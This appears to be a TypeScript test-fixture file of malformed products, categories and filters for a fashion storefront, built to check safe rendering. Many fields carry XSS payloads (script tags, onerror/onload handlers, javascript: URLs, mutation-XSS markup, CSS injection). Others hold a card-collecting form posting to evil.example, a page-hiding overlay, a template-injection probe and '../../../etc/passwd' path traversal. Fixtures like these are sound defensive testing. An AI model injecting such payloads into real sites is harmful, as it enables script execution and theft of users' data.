/** Script in the hostile texts below, which runs only if a page interprets them as markup or code. */
const attackScript = 'window.__pwned=(window.__pwned||0)+1;alert(1)';

/** Product with markup and scripts in its texts. Its `name` also names the hostile category, colour and reviewer. */
export const hostileProduct = {
  slug: 'hostile',
  title: `<img src=x onerror="${attackScript}">"'><script>${attackScript}</script>Plain silk {{7*7}}`,
  name: `</script><svg onload="${attackScript}">Layla`,
  description: [
    `<p>A <strong>calm</strong> dress.</p><script>${attackScript}</script>`,
    `<img src=x onerror="${attackScript}"><svg/onload="${attackScript}"><iframe srcdoc="<script>${attackScript}</script>"></iframe>`,
    `<a href="javascript:${attackScript}">care</a> <a href="https://wool.example/care" onclick="${attackScript}">wool</a>`,
    `<form action="https://evil.example"><input name=card><button>Pay</button></form>`,
    `<style>body{display:none}</style><div style="position:fixed;inset:0">cover</div>`,
    `<p id="content" class="fixed">last words</p><math><mtext><table><mglyph><style><img src=x onerror="${attackScript}">`,
  ].join(''),
};

export const arabicSlug = 'عباية-كريب-سوداء';
export const malformedCategorySlug = 'Gowns & Co';

const permanentSale = { startAt: '2020-01-01T00:00:00Z', endAt: '2099-12-31T23:59:59+02:00' };

/** Sold in red S, red M and blue M, each with its own price and images; has reviews on two pages. */
const productWithMissingVariant = {
  id: 11,
  slug: 'without-blue-s',
  title: 'Without blue S',
  reviews: Array.from({ length: 12 }, (_, index) => ({
    rating: 4,
    name: 'Layla',
    review: `Opinion ${index}.`,
    user: index === 0 ? 'reviewers/layla.webp' : null,
  })),
  variants: [
    ['Red', 'S', 310],
    ['Red', 'M', 320],
    ['Blue', 'M', 330],
  ].map(([color, size, price]) => ({
    id: `${color}-${size}`,
    price,
    quantity: 3,
    images: [`${color}-${size}.webp`],
    attributes: [
      { name: 'Color', value: color },
      { name: 'Size', value: size },
    ],
  })),
};

/** Products with string ids and prices, mixed-case names, every kind of image path, and missing or null fields. */
export function malformedProducts(uploadsUrl: string) {
  return [
    null,
    {
      id: 'p-1',
      slug: arabicSlug,
      title: 'عباية كريب سوداء',
      description: '<p>Crepe &amp; silk</p>',
      mainCategory: { categoryId: '7', categoryName: 'Gowns', slug: malformedCategorySlug },
      productType: 'FASHION',
      price: '2,000',
      variants: [
        {
          id: 'v-1',
          sku: 12345,
          price: '1,250.50',
          salePrice: '1000',
          ...permanentSale,
          quantity: '4',
          images: [
            { filePath: 'one.webp' },
            { filePath: '/two.webp' },
            { filePath: `${uploadsUrl}/three.webp` },
            null,
            {},
          ],
          attributes: [
            { name: 'SIZE', value: 'm' },
            { name: 'Color', value: 'DEEP Green' },
            { name: 'colorcode', value: '#364D41' },
          ],
        },
        {
          id: 'v-2',
          price: 900,
          quantity: null,
          images: null,
          attributes: [
            { name: 'size', value: 'M' },
            { name: 'COLOR', value: 'sand' },
            { name: 'code', value: 'javascript:alert(1)' },
          ],
        },
        'no variant at all',
      ],
      defaultVariant: 'v-1',
      reviews: [
        { rating: 'five' },
        { rating: '4.5', name: null, review: 'Good cloth', date: 'yesterday' },
        null,
      ],
      productAttributes: [
        { name: 'Fabric', value: null },
        null,
        { name: 'Fabric', value: ['crepe', 'silk'] },
      ],
      tags: null,
      imageURLs: 'not a list',
    },
    { id: 2, slug: 'bare', title: 'Bare' },
    {
      id: 3,
      slug: 'unreadable',
      title: 'Unreadable',
      price: 'ask us',
      quantity: 'many',
      mainCategory: 'Gowns',
      variants: {},
      videoId: {},
    },
    { id: 4, slug: null, title: 'Without a slug' },
    { slug: 'without-id', title: 'Without an id' },
    { id: 5, slug: 'without-title' },
    { id: 6, slug: '../climbing', title: 'Climbing' },
    {
      id: 8,
      slug: hostileProduct.slug,
      title: hostileProduct.title,
      description: hostileProduct.description,
      metaTitle: hostileProduct.title,
      metaDescription: `"><script>${attackScript}</script>`,
      metaKeyWords: `<b onmouseover="${attackScript}">silk</b>, "quoted"`,
      mainCategory: { id: 9, name: hostileProduct.name, slug: 'javascript:alert(1)' },
      productType: 'fashion',
      price: 10,
      videoId: `javascript:${attackScript}`,
      featuredImage: { filePath: `javascript:${attackScript}` },
      imageURLs: [
        '"><script>alert(1)</script>',
        '../../../etc/passwd',
        'data:text/html,<script>alert(1)</script>',
      ],
      productAttributes: [{ name: hostileProduct.name, value: hostileProduct.title }],
      variants: [
        {
          id: 1,
          sku: hostileProduct.title,
          price: 10,
          quantity: 1,
          attributes: [
            { name: 'Color', value: hostileProduct.name },
            { name: 'ColorCode', value: `red;background:url("javascript:${attackScript}")` },
            { name: 'Size', value: '"><b>M</b>' },
          ],
        },
      ],
      reviews: [
        {
          rating: 1e9,
          name: hostileProduct.name,
          review: hostileProduct.title,
          date: -1,
          user: 'javascript:alert(1)',
        },
      ],
    },
    productWithMissingVariant,
  ];
}

/** Titles of the products above that are readable enough for a listing, in its order. */
export const readableTitles = [
  'عباية كريب سوداء',
  'Bare',
  'Unreadable',
  hostileProduct.title,
  productWithMissingVariant.title,
];

export const malformedCategories = [
  {
    categoryId: '7',
    categoryName: 'Gowns & Co',
    slug: malformedCategorySlug,
    featuredImage: '/gowns.webp',
    productCount: '12',
  },
  {
    id: 9,
    name: hostileProduct.name,
    slug: 'hostile-category',
    featuredImage: null,
    description: hostileProduct.title,
  },
  { id: 10, name: 'فساتين سهرة', slug: 'فساتين-سهرة' },
  { name: 'Without id or slug' },
  'no category',
];

export const malformedFeatureTags = [
  { id: 'f1', name: 'Loved', slug: 'محبوبة', code: 'BestSellers' },
  { id: 2, name: hostileProduct.name, slug: 'hostile-tag', code: null },
  null,
];

export const malformedFilters = {
  categories: malformedCategories,
  attributesVariant: {
    colors: [
      'Red',
      { name: 'DEEP Green', code: '364D41' },
      { name: hostileProduct.name, code: attackScript },
      null,
    ],
    sizes: ['m', 42, null, hostileProduct.title],
  },
  brands: [
    { name: 'Layl', logo: { filePath: 'logos/layl.webp' } },
    { name: 'Sahar', logo: null },
  ],
};
